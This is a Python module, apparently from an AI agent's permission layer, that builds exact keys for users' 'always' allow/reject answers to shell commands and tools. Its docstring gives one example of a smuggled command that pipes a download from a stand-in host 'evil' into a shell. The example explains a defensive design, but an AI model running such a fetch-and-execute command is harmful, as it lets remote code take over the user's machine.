"""Grants: what a person's "always" answer records, and the narrow keys they are filed under.

A grant key names exactly what was approved or rejected:

- a shell command: ``cmd:`` + the JSON of every simple command's argv, in order, so
  approving `git status` never approves `git status; curl evil | sh`;
- a path tool: ``path:`` + the tool name + the canonical path;
- any other tool: ``tool:`` + the tool name.

`SafetyConfig.grant_scope` can widen what an answer covers, opt-in (`broaden`): ``tool``
files every grant under the tool name; ``command-prefix`` files a command's grant under
``prefix:`` + each simple command's program and first non-option word (`git status`
covers `git status --short`, not `git push`). Grants never lift a DENY or a hard ASK,
whatever their scope, and an opaque command has no key to widen.
"""

from __future__ import annotations

import functools
import json
import re
from collections.abc import Sequence
from enum import StrEnum
from typing import Final, Literal

__all__ = [
    "GrantEffect",
    "GrantScope",
    "broaden",
    "command_grant_key",
    "path_grant_key",
    "tool_grant_key",
]

GrantScope = Literal["exact", "tool", "command-prefix"]

_REDIRECT = re.compile(r"\d*[<>]")
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")


class GrantEffect(StrEnum):
    """What an "always" answer recorded: allow the same call again, or reject it."""

    ALLOW = "allow"
    REJECT = "reject"


# One encoder for every key: `json.dumps(..., ensure_ascii=False)` builds a new one per call.
_JSON: Final = json.JSONEncoder(ensure_ascii=False)


def command_grant_key(simple_commands: Sequence[Sequence[str]]) -> str:
    """Key for an exact parsed command: every simple command's argv, in order."""
    return "cmd:" + _JSON.encode([list(argv) for argv in simple_commands])


def path_grant_key(tool: str, canonical_paths: Sequence[str]) -> str:
    """Key for a path tool on exactly these canonical paths."""
    paths = tuple(sorted(canonical_paths))
    if type(tool) is str and set(map(type, paths)) <= _STR:
        return _path_key(tool, paths)  # plain strings: the same text, remembered
    return "path:" + _JSON.encode([tool, list(paths)])


_STR: Final = frozenset({str})


@functools.lru_cache(maxsize=4096)
def _path_key(tool: str, paths: tuple[str, ...]) -> str:
    return "path:" + _JSON.encode([tool, list(paths)])


def tool_grant_key(tool: str) -> str:
    """Key for a tool with no finer scope (no command, no path)."""
    return "tool:" + _JSON.encode(tool)


def broaden(grant_key: str | None, scope: str, tool: str) -> str | None:
    """The key an "always" answer is filed under for `scope` (`exact` keeps `grant_key`)."""
    if grant_key is None or scope == "exact":
        return grant_key
    if scope == "tool":
        return tool_grant_key(tool)
    if scope == "command-prefix" and grant_key.startswith("cmd:"):
        argvs = json.loads(grant_key[4:])
        return "prefix:" + _JSON.encode([_prefix(argv) for argv in argvs])
    return grant_key  # path tools and others keep their narrow key


def _prefix(argv: Sequence[str]) -> list[str]:
    if argv and argv[0] == "<operators>":
        return list(argv)  # the shape of the compound command stays exact
    out: list[str] = []
    words = list(argv)
    while words and _ASSIGNMENT.match(words[0]):
        out.append(words.pop(0))
    if words:
        out.append(words.pop(0))
    if words and not words[0].startswith("-") and not _REDIRECT.match(words[0]):
        out.append(words[0])
    return out
